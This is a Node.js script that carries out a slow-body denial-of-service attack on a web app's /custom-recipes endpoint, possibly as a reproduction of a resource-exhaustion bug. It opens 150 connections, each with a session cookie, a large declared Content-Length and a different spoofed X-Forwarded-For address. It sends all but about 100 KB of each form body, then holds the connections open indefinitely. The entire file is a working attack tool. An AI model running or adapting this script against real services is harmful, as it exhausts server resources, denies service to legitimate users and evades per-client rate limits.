import { Buffer } from "node:buffer";
import { connect } from "node:net";
import { setInterval } from "node:timers";

/**
 * Announces 150 bodies at once, sends nearly all of each, and then no more. Called with the app's address, a
 * session's cookie and the bytes of a body.
 */
const [, , url = "", cookie = "", bytes = "0"] = process.argv;
const { hostname, port } = new URL(url);
const piece = Buffer.alloc(64 * 1024, "a");

async function stall(address) {
  const socket = connect({ host: hostname, port: Number(port) });
  socket.on("error", () => {});
  socket.on("data", () => {});
  const lines = [
    "POST /custom-recipes HTTP/1.1",
    `Host: ${hostname}:${port}`,
    "Sec-Fetch-Site: same-origin",
    "Content-Type: application/x-www-form-urlencoded",
    `Content-Length: ${bytes}`,
    `X-Forwarded-For: ${address}`,
    `Cookie: ${cookie}`,
  ];
  socket.write(`${lines.join("\r\n")}\r\n\r\nintent=paste&pasted=`);
  for (let left = Number(bytes) - 100_000; left > 0; left -= piece.length) {
    if (socket.write(piece.subarray(0, Math.min(left, piece.length)))) continue;
    const goesOn = await new Promise((done) => {
      socket.once("drain", () => done(true));
      socket.once("close", () => done(false));
    });
    if (!goesOn) return;
  }
}

await Promise.all(Array.from({ length: 150 }, (_, n) => stall(`192.0.2.${n}`)));
setInterval(() => {}, 60_000);
